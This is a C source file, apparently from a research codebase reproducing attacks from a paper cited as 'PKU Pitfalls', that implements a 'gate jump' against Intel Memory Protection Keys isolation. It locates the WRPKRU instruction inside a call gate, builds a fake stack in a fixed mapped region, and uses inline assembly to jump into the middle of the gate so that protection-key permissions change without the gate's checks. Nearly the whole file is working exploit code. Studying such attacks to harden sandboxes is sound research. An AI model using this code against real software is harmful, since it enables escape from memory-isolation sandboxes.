/* gatejump.c - see gatejump.h. Source: [PKU Pitfalls]. */
#include <sys/mman.h>
#include "attack.h"
#include "gatejump.h"
#include "machinecode.h"
#include "mpk.h"
#include "naive.h"

#define GATE_BYTES 1024 /* no gate is longer */
#define REGION_BYTES 0x40000
#define STACK_WORDS 64

/* What the jump needs when the thread pointer is gone. */
static struct { void **stack; const void *wrpkru; unsigned long registers, nobody; } jump;

void gatejump(unsigned long registers, enum gatejump_thread thread, void (*arrived)(void)) {
    const void *gate = target.undefended ? naive_wrpkru() : (const void *)(uintptr_t)mpk_gate_exit;
    const unsigned char *wrpkru = machinecode_find(gate, GATE_BYTES, WRPKRU_BYTES, 3);
    if (!wrpkru) return;
    unsigned char *region = mmap((void *)GATEJUMP_MATCHED, REGION_BYTES, PROT_READ | PROT_WRITE,
                                 MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
    TRY("mmap", region == MAP_FAILED ? -1 : 0);
    void **stack = (void **)(region + REGION_BYTES) - STACK_WORDS;
    for (int i = 0; i < STACK_WORDS; i++) stack[i] = (void *)(uintptr_t)arrived;
    jump.stack = stack;
    jump.wrpkru = wrpkru;
    jump.registers = registers;
    jump.nobody = thread == GATEJUMP_AS_NOBODY;
    __asm__ volatile("mov 0(%0), %%rsp\n\tmov 8(%0), %%r11\n\tmov 16(%0), %%r10\n\t"
                     "xor %%eax, %%eax\n\txor %%ecx, %%ecx\n\txor %%edx, %%edx\n\t"
                     "cmpq $0, 24(%0)\n\tje 1f\n\tmov %%eax, %%fs\n1:\t"
                     "mov %%r10, %%rbx\n\tmov %%r10, %%rbp\n\tmov %%r10, %%rsi\n\tmov %%r10, %%rdi\n\t"
                     "mov %%r10, %%r8\n\tmov %%r10, %%r9\n\tmov %%r10, %%r12\n\tmov %%r10, %%r13\n\t"
                     "mov %%r10, %%r14\n\tmov %%r10, %%r15\n\tpush %%r11\n\tmov %%r10, %%r11\n\tret"
                     :
                     : "r"(&jump)
                     : "memory", "rax", "rcx", "rdx", "r10", "r11");
    __builtin_unreachable();
}
